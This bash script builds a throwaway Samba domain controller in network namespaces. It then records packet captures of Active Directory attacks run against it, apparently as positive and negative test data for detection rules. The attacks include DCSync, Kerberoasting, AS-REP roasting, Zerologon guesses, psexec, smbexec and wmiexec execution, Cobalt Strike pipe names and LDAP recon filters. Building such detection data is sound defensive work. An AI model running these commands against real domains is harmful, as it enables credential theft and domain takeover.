#!/bin/bash
# Makes the captures of rules/windows that need a domain: a Samba domain controller and impacket's tools in two network
# namespaces. Run as root; needs samba, samba-ad-provision, samba-dsdb-modules, python3-impacket, krb5-user, ldap-utils.
export PATH=/usr/sbin:/usr/bin:/sbin:/bin
here=$(realpath "$(dirname "$0")"); rules=$(realpath "$here/.."); tools=/usr/share/doc/python3-impacket/examples
a=swda; v=swdv; dir=${DOMAIN_DIR:-$(mktemp -d)}; work=$(mktemp -d)
finish() { rm -rf /etc/netns/swda; [ -n "$samba" ] && kill -- -"$samba" 2>/dev/null; kill $(jobs -p) 2>/dev/null; ip netns del $a; ip netns del $v; rm -rf "$work"; }
trap finish EXIT
ip netns add $a; ip netns add $v
ip link add eth0 netns $a type veth peer name eth0 netns $v
for n in $a $v; do ip netns exec $n ethtool -K eth0 tx off rx off gso off tso off gro off >/dev/null; ip -n $n link set eth0 up; ip -n $n link set lo up; done
ip -n $a addr add 203.0.113.66/32 dev eth0; ip -n $v addr add 10.42.1.10/32 dev eth0
ip -n $a route add 10.42.1.10 dev eth0; ip -n $v route add 203.0.113.66 dev eth0
mkdir -p /etc/netns/$a; echo '10.42.1.10 dc01 dc01.example.lan example.lan EXAMPLE.LAN' > /etc/netns/$a/hosts
if [ ! -f "$dir/etc/smb.conf" ]; then
  samba-tool domain provision --targetdir="$dir" --realm=EXAMPLE.LAN --domain=EXAMPLE --server-role=dc --dns-backend=NONE \
    --adminpass=Passw0rd.2019 --host-name=dc01 --host-ip=10.42.1.10 --option='vfs objects=' >/dev/null 2>&1
fi
conf=$dir/etc/smb.conf
if ! grep -q 'ADMIN\$' "$conf"; then
  mkdir -p "$dir/admin/Temp"; chmod 777 "$dir/admin" "$dir/admin/Temp"
  # SMB 2.1, as Windows 7 and Server 2008 R2 speak it: impacket encrypts where SMB 3 is offered.
  sed -i 's/^\[global\]/[global]\n\tinterfaces = 10.42.1.10\n\tbind interfaces only = yes\n\tserver max protocol = SMB2_10\n\tldap server require strong auth = no\n\tserver services = s3fs, rpc, ldap, cldap, kdc, drepl, winbindd\n\tkdc supported enctypes = rc4-hmac aes256-cts-hmac-sha1-96 aes128-cts-hmac-sha1-96\n\trpc_server:spoolss = embedded\n\trpc_daemon:spoolssd = embedded/' "$conf"
  printf '\n[ADMIN$]\n\tpath = %s/admin\n\tread only = no\n' "$dir" >> "$conf"
fi
u() { samba-tool "$@" -s "$conf" >/dev/null 2>&1; }
u user create svc_sql Summer2019. ; u spn add MSSQLSvc/db01.example.lan:1433 svc_sql
u user create oldapp Winter2019. ; u user create li Spring2019.
python3 - "$conf" <<P
import sys
from samba.auth import system_session
from samba.param import LoadParm
from samba.samdb import SamDB
lp = LoadParm(); lp.load(sys.argv[1])
SamDB(lp=lp, session_info=system_session()).modify_ldif('dn: CN=oldapp,CN=Users,DC=example,DC=lan\nchangetype: modify\nreplace: userAccountControl\nuserAccountControl: 4194816\n')
P
setsid ip netns exec $v samba -i -M single -s "$conf" >"$work/samba.log" 2>&1 & samba=$!
for i in $(seq 60); do ip netns exec $v ss -Hltn 'sport = :445' | grep -q . && ip netns exec $v ss -Hltn 'sport = :88' | grep -q . && break; sleep 0.5; done
sleep 2
cat > "$work/krb5.conf" <<K
[libdefaults]
 default_realm = EXAMPLE.LAN
 dns_lookup_kdc = false
[realms]
 EXAMPLE.LAN = {
  kdc = 10.42.1.10
 }
K
export KRB5_CONFIG=$work/krb5.conf KRB5CCNAME=$work/cc
record() { # file, command …
  local file=$rules/windows/$1 log; shift; mkdir -p "$(dirname "$file")"
  ip netns exec $v tcpdump -i eth0 -s 0 -U -Z root --immediate-mode -w "$file" not arp 2>/dev/null & local t=$!
  sleep 0.7; (cd "$work" && ip netns exec $a timeout 25 "$@" 2>&1 | tail -3); sleep 0.4; kill -INT $t; wait $t 2>/dev/null
  echo "$file $(stat -c %s "$file")"
}
py=python3; only=$*
want() { [ -z "$only" ] || [[ " $only " == *" $1 "* ]]; }
want dcsync && record dcsync/get-changes.pcap $py "$here/domain.py" dcsync 10.42.1.10
want dcsync && record dcsync/miss-lookup.pcap $py $tools/lookupsid.py 'EXAMPLE/li:Spring2019.@10.42.1.10' 1000
want domain-enumeration && record domain-enumeration/lookupsid.pcap $py $tools/lookupsid.py 'EXAMPLE/li:Spring2019.@10.42.1.10' 1200
want domain-enumeration && record domain-enumeration/samrdump.pcap $py $tools/samrdump.py 'EXAMPLE/li:Spring2019.@10.42.1.10'
want domain-enumeration && record domain-enumeration/miss-shares.pcap smbclient -s /dev/null -L //10.42.1.10 -U 'EXAMPLE/li%Spring2019.'
want kerberoast && record kerberoast/service-ticket.pcap $py "$here/domain.py" roast 10.42.1.10
want kerberoast && record kerberoast/miss-kinit.pcap bash -c 'echo Spring2019. | kinit li@EXAMPLE.LAN && kvno ldap/dc01.example.lan@EXAMPLE.LAN && kvno MSSQLSvc/db01.example.lan:1433'
want asrep-roast && record asrep-roast/getnpusers.pcap $py $tools/GetNPUsers.py -dc-ip 10.42.1.10 -no-pass -format hashcat EXAMPLE.LAN/oldapp
want asrep-roast && record asrep-roast/miss-kinit.pcap bash -c 'echo Spring2019. | kinit li@EXAMPLE.LAN'
base='DC=example,DC=lan'; bind=(-x -H ldap://10.42.1.10 -D 'li@example.lan' -w Spring2019. -b "$base")
# The filters of GetNPUsers.py and GetUserSPNs.py: impacket's NTLM bind is one that Samba does not take.
want ldap-enumeration && record ldap-enumeration/no-preauthentication.pcap ldapsearch "${bind[@]}" '(&(UserAccountControl:1.2.840.113556.1.4.803:=4194304)(!(UserAccountControl:1.2.840.113556.1.4.803:=2))(!(objectCategory=computer)))' sAMAccountName pwdLastSet MemberOf userAccountControl lastLogon
want ldap-enumeration && record ldap-enumeration/service-names.pcap ldapsearch "${bind[@]}" '(&(servicePrincipalName=*)(UserAccountControl:1.2.840.113556.1.4.803:=512)(!(UserAccountControl:1.2.840.113556.1.4.803:=2))(!(objectCategory=computer)))' servicePrincipalName sAMAccountName pwdLastSet MemberOf userAccountControl
want ldap-enumeration && record ldap-enumeration/miss-address-book.pcap ldapsearch "${bind[@]}" '(&(objectClass=user)(cn=li*))' cn mail memberOf
want coerced && record coerced-authentication/printer.pcap $py "$here/domain.py" printer 10.42.1.10
want coerced && record coerced-authentication/miss-printers.pcap $py "$here/domain.py" printers 10.42.1.10
want zerologon && record zerologon/guesses.pcap $py "$here/domain.py" zerologon 10.42.1.10
want pipe && record ../malware/cobalt-strike-pipe/msagent.pcap $py "$here/domain.py" pipes 10.42.1.10 msagent_4f MSSE-1337-server
want pipe && record ../malware/cobalt-strike-pipe/miss-pipes.pcap $py "$here/domain.py" pipes 10.42.1.10 srvsvc lsarpc
want pipe && record psexec-pipe/remcom.pcap $py "$here/domain.py" pipes 10.42.1.10 RemCom_communicaton
want pipe && record psexec-pipe/miss-pipes.pcap $py "$here/domain.py" pipes 10.42.1.10 srvsvc lsarpc
want service && record remote-service/smbexec.pcap $py "$here/domain.py" service 10.42.1.10
want service && record remote-service/psexec.pcap $py $tools/psexec.py 'EXAMPLE/Administrator:Passw0rd.2019@10.42.1.10' whoami
want service && record remote-service/miss-services.pcap $py "$here/domain.py" services 10.42.1.10
want files && record admin-share-program/psexec.pcap $py "$here/domain.py" files 10.42.1.10 'ADMIN$:kLpWqRtZ.exe'
want files && record admin-share-program/miss-documents.pcap $py "$here/domain.py" files 10.42.1.10 'ADMIN$:report.docx' 'sysvol:notes.txt'
want files && record remote-command-output/wmiexec.pcap $py "$here/domain.py" files 10.42.1.10 'ADMIN$:__1571385600.6172'
want files && record remote-command-output/atexec.pcap $py "$here/domain.py" files 10.42.1.10 'ADMIN$:Temp\hQwXzBnM.tmp' 'ADMIN$:__output'
want files && record remote-command-output/miss-files.pcap $py "$here/domain.py" files 10.42.1.10 'ADMIN$:Temp\setup.tmp' 'ADMIN$:__init__.py'
exit 0
